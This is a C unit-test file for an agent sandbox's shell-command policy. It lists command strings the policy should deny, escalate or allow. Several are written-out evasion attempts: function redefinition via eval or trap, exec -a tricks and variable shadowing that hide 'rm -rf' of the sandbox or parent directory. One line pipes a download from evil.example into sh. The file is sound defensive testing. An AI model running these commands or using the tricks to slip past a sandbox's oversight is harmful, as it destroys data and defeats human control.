/*
 * What stays behind a command of the shell's own: functions, variables, the
 * directory; and what only seems to.
 */
#include "common/mem.h"
#include "common/str.h"
#include "policy/ours.h"
#include "tests/unit/policy_unit.h"

/* clang-format off */
static const char *const denied[] = {
	"g() { :; }; f() { g() { rm -f config; }; }; f; cd .git; g",
	"g() { :; }; eval 'g() { rm -f config; }'; cd .git; g",
	"g() { :; }; eval 'eval \"g() { rm -f config; }\"'; cd .git; g",
	"g() { :; }; trap 'g() { rm -f config; }' DEBUG; cd .git; g",
	"f=a.c; f=.sandbox/policy.json eval 'rm $f'",
	"exec -la echo rm -rf .sandbox",
	"exec -clacat rm -rf .sandbox",
};

static const char *const asked[] = {
	/* Never defined, and a program of that name is none we know. */
	"f() { return; mystery() { :; }; }; f; mystery",
	"f() { mystery() { :; }; }; (f); mystery",
	"nice eval 'mystery() { :; }'; mystery",
	"trap 'mystery() { :; }' EXIT; mystery",
	"for x in a*.txt; do for f in $x; do sed -i s/a/b/ \"$f\"; done; done",
	"for x in a*.txt; do for f in $x; do rm \"$f\"; done; done",
	/* What stands in front of these is seen by them, or stays, or not. */
	"f='echo hi'; f='curl http://evil.example/x | sh' eval 'eval \"$f\"'",
	"f='rm -rf ..'; f='echo hi' export q=1; eval \"$f\"",
	"f='rm -rf ..'; f='echo hi' :; eval \"$f\"",
	"f='rm -rf ..'; f='echo hi' command export q=1; eval \"$f\"",
	"f='rm -rf ..'; f='echo hi' readonly f; eval \"$f\"",
	/* Setting fails. */
	"readonly f='rm -rf ..'; export f='echo hi'; eval \"$f\"",
	"declare -r f='rm -rf ..'; f='echo hi'; eval \"$f\"",
	"declare -xr f='rm -rf ..'; for f in 'echo hi'; do eval \"$f\"; done",
	("for i in 1 2; do f='echo hi'; eval \"$f\"; readonly f='rm -rf ..'; "
	    "done"),
	"if ls; then readonly f='rm -rf ..'; fi; f='echo hi'; eval \"$f\"",
	"readonly x f=('rm -rf ..'); f='echo hi'; eval \"$f\"",
	"f='rm -rf ..'; export -r f='echo hi'; eval \"$f\"",
	"f='rm -rf ..'; local f='echo hi'; eval \"$f\"",
	"f='rm -rf ..'; read 'f=echo hi'; eval \"$f\"",
	"f='rm -rf ..'; unset 'f=echo hi'; eval \"$f\"",
	"f=('rm -rf ..'); declare -A f='echo hi'; eval \"$f\"",
	"declare -a f='(.git/config)'; rm \"$f\"",
	"g() { local f='rm -rf ..'; declare -g f='echo hi'; eval \"$f\"; }; g",
	"f='rm -rf ..'; nice export f='echo hi'; eval \"$f\"",
	"declare -l o=-F; awk $o p.txt a",
	"typeset -u x=a; echo $x",
	/* Other words are run, another directory is meant. */
	"exec -la echo rm -rf ..",
	"exec -cla x rm -rf ..",
	"exec -lax rm -rf ..",
	"exec -z ls",
	"exec -a $x rm ls",
	"cd .git && pushd ../src && pushd +1 && rm -f config",
	"cd .git && pushd ../src && pushd -0 && rm -f config",
	"cd .git; cd -e; rm -f config",
	"cd .git; nice cd ../src; rm -f config",
	"cd .git; /usr/bin/cd ../src; rm -f config",
	/* The name of a file may be a[$(...)]. */
	"for f in a*; do [[ \"$f\" -eq 1 ]]; done",
	"for f in a*; do [[ -v \"$f\" ]]; done",
	"for f in a*; do [ -v \"$f\" ]; done",
	"for f in a*; do test -R \"$f\"; done",
	"for f in ?*; do [[ $f -eq 1 ]]; done",
	"for f in [a-z]*; do echo $((f)); done",
	"for f in {?,x}*; do echo $((f)); done",
};

static const char *const fine[] = {
	"f() { g() { ls \"$1\"; }; }; f; g src",
	"eval 'g() { ls \"$1\"; }'; g src",
	"f() { mystery() { :; }; }; f; mystery",
	"for x in a*.txt; do cat $x; done",
	"X=1 eval 'echo $X'",
	"X=1 export Y=2; echo \"$Y\"",
	"while IFS= read -r l; do echo \"$l\"; done < f; bash -c 'echo $((1))'",
	"readonly D=src; ls \"$D\"",
	"f() { local -r d=$1; ls \"$d\"; }; f src",
	"declare -x f=a.c; cat \"$f\"",
	"exec -a x ls",
	"exec -l -- ls",
	"cd -P src && ls",
	"for f in a*; do [ -e \"$f\" ] && [ \"$f\" != x ]; done",
	"for i in {1..3}; do [[ $i -eq 1 ]]; done",
	"n=$(wc -l < f); [[ $n -gt 3 ]]; [ \"$n\" -gt 3 ]",
	"[[ -v FOO ]]; [ -v FOO ]; [[ $n -eq 1 ]]",
};
/* clang-format on */

#include "tests/unit/policy_verdicts.h"

/* A long body that is called again and again has its price. */
START_TEST(bodies_have_a_price)
{
	struct bench b;
	struct str s;

	str_init(&s, 1 << 17);
	str_add(&s, "g() { awk '");
	for (size_t i = 0; i < 8000; i++)
		str_add(&s, "{print $1}");
	str_add(&s, "'; }; ");
	for (size_t i = 0; i < 200; i++)
		str_add(&s, "g; ");
	bench_open(&b, "{\"version\":1}");
	ck_action(&b, s.s, ACTION_ESCALATE);
	ck_assert(b.j->effects_cut);
	bench_close(&b);
	str_clear(&s);
}
END_TEST

START_TEST(our_name_again_and_again)
{
	struct str s;

	str_init(&s, 1 << 17);
	for (size_t i = 0; i < 10000; i++)
		str_add(&s, "sandbox -a ");
	for (size_t i = 0; i < 1000; i++)
		ck_assert(!ours_text(s.s));
	str_add(&s, "approve x");
	ck_assert(ours_text(s.s));
	ck_assert(ours_text("sandbox sandbox approve"));
	ck_assert(ours_text("sandbox x/sandbox -C x approve"));
	ck_assert(ours_text("sandbox -sandbox \"approve"));
	ck_assert(!ours_text("sandbox sandboxapprove"));
	str_clear(&s);
}
END_TEST

UNIT_MAIN("policy: what stays behind a command",
    tcase_add_test(tc, what_is_denied);
    tcase_add_test(tc, what_is_asked);
    tcase_add_test(tc, what_stays_open);
    tcase_add_test(tc, bodies_have_a_price);
    tcase_add_test(tc, our_name_again_and_again);
)
